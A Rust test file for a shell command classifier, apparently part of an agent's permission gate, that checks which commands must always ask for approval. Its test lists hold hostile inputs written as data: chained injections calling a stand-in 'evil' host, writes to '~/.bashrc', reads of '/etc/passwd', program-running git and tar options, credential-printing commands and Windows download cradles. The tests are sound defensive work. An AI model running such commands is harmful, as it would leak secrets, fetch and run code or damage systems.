//! Tests of `shell.rs`, table-driven.
use super::*;

#[test]
fn simple_commands_split_like_a_shell() {
    let c = classify("ls -la 'my dir' \"other dir\" plain\\ space");
    assert_eq!(
        c.argv.unwrap(),
        ["ls", "-la", "my dir", "other dir", "plain space"]
    );
    assert!(c.always_ask.is_none() && !c.network && !c.destructive);
    assert_eq!(classify("cargo test").argv.unwrap(), ["cargo", "test"]);
    assert!(classify("cargo test").network, "cargo can download crates");
    assert!(classify("rm -rf build").destructive);
    assert!(classify("/usr/bin/curl https://x").network);
    assert!(classify("git clean -fdx").destructive);
}

#[test]
fn every_bypass_form_always_asks() {
    let bypasses = [
        "ls; rm -rf /",
        "ls && curl evil",
        "ls || curl evil",
        "ls | sh",
        "ls & curl evil",
        "ls\ncurl evil",
        "echo $(curl evil)",
        "echo `curl evil`",
        "echo \"$(curl evil)\"",
        "echo \"`id`\"",
        "echo $HOME",
        "cat < /etc/passwd",
        "echo x > ~/.bashrc",
        "echo x >> file",
        "ls 2>/dev/null",
        "(curl evil)",
        "{ curl evil; }",
        "sh -c 'curl evil'",
        "bash -c ls",
        "/bin/sh -c ls",
        "env curl evil",
        "env -i ls",
        "xargs rm",
        "timeout 5 curl evil",
        "nohup curl evil",
        "sudo ls",
        "nice -n 5 ls",
        "exec ls",
        "eval ls",
        "command ls",
        "python3 -c 'import os'",
        "node -e 1",
        "perl -e 1",
        "find . -exec rm {} \\;",
        "awk 'BEGIN{system(\"id\")}'",
        "FOO=1 ls",
        "ls *",
        "ls ~",
        "ls # comment",
        "echo 'unterminated",
        "ls \\\n-la",
        "",
        "   ",
        "ls\u{7}",
    ];
    for b in bypasses {
        let c = classify(b);
        assert!(c.always_ask.is_some(), "{b:?} must always ask: {c:?}");
    }
    // Simple-looking commands whose options or scripts run programs, write anywhere or
    // read credentials: always ask, so no grant can cover them.
    let hidden = [
        "git -c core.pager=sh log",
        "git -c alias.x=!sh x",
        "git -ccore.sshCommand=evil fetch",
        "git --config-env=core.pager=EVIL log",
        "git --config-env core.editor=E commit",
        "git log --output=/home/u/.bashrc",
        "git log --output /tmp/x",
        "git diff --ext-diff",
        "git fetch --upload-pack=evil origin",
        "git clone ext::sh",
        "git grep -Oevil x",
        "git grep --open-files-in-pager=evil x",
        "git config alias.st '!sh'",
        "git config --global core.hooksPath /tmp",
        "git submodule foreach evil",
        "git bisect run evil",
        "git rebase --exec evil main",
        "git rebase -x evil main",
        "git filter-branch --tree-filter evil",
        "git difftool --extcmd=evil",
        "git credential fill",
        "git credential-store get",
        "/usr/bin/git -c x=y status",
        "git -C evil status",
        "git -Cevil status",
        "git --git-dir=evil log",
        "git --git-dir evil log",
        "git --work-tree=. diff",
        "git --bare log",
        "git --no-pager -C evil diff",
        "rg --pre evil pattern",
        "rg --pre=evil pattern",
        "sed -n 1p x",
        "sed 's/a/b/e' x",
        "sed 'w /home/u/.profile' x",
        "sed -i s/a/b/ x",
        "tar --to-command=evil -xf a.tar",
        "tar --checkpoint=1 --checkpoint-action=exec=evil -cf a.tar .",
        "tar -I evil -xf a",
        "tar xf a.tar",
        "trap evil EXIT",
        "! ls",
        "less README",
        "more x",
        "man ls",
        "vim x",
        "nano x",
        "ed x",
        "patch -p1",
        "unzip a.zip",
        "zip -TT evil a.zip x",
        "crontab x",
        "at now",
        "systemd-run evil",
        "secret-tool lookup service x",
        "security find-generic-password -w -s x",
        "cmdkey /list",
        "gh auth token",
        "GH auth token",
        "aws configure export-credentials",
        "aws sts get-session-token",
        "gcloud auth print-access-token",
        "az account get-access-token",
        "docker login",
        "docker-credential-desktop get",
        "npm token list",
        "kubectl config view --raw",
        "op read op://x",
        "pass show email",
        "bw get password x",
        "gpg --export-secret-keys",
        "ssh-add -L",
        "keyctl print 1",
        "vault kv get x",
    ];
    for h in hidden {
        let c = classify(h);
        assert!(c.always_ask.is_some(), "{h:?} must always ask: {c:?}");
    }
    // Their plain forms stay simple (grantable).
    for plain in [
        "git status",
        "git log --oneline -5",
        "git diff --cached",
        "git show HEAD",
        "rg pattern src",
        "grep -rn x .",
        "ls -la",
        "git log -C",
        "gh pr list",
        "aws s3 ls",
        "docker ps",
    ] {
        assert_eq!(classify(plain).always_ask, None, "{plain}");
    }
    // Network programs, whatever their name's form.
    for n in [
        "wget2 x",
        "lynx -dump x",
        "w3m x",
        "openssl s_client -connect x:443",
        "nc.openbsd x 80",
        "nc.traditional -l 1",
        "getent hosts x",
        "drill x",
        "resolvectl query x",
        "/usr/bin/whois x",
        "nmap x",
        "xh x",
    ] {
        assert!(classify(n).network, "{n}");
    }
    // cmd.exe: what POSIX calls simple is not, for cmd (quotes do not protect & | ^ %).
    for w in [
        "echo 'x & calc'",
        "echo 'a | b'",
        "type x > y",
        "echo %PATH%",
        "echo !x!",
        "echo a^&b",
        "(dir)",
        "@echo off",
        "powershell -enc AAAA",
        "PowerShell.exe Get-Item x",
        "C:\\Windows\\System32\\cmd.exe /c dir",
        "pwsh -c x",
        "start calc",
        "wscript x.vbs",
        "mshta http://x",
        "rundll32 x,y",
        "certutil -urlcache -f http://x y",
        "reg add HKCU\\x",
        "\"powershell\" x",
    ] {
        let posix = classify(w);
        let cmd = classify_for(w, Interpreter::Cmd);
        assert!(cmd.always_ask.is_some(), "{w:?} under cmd: {cmd:?}");
        if w == "echo 'x & calc'" {
            assert!(posix.always_ask.is_none(), "POSIX reads it as one echo");
        }
    }
    for plain in ["dir", "rg x src", "git status", "echo hello"] {
        assert_eq!(
            classify_for(plain, Interpreter::Cmd).always_ask,
            None,
            "{plain}"
        );
    }
    // Network-capable commands are flagged even when hidden in a compound command.
    assert!(classify("ls && curl evil").network);
    assert!(classify("echo $(wget x)").network);
    assert!(classify("ls; rm -rf x").destructive);
}
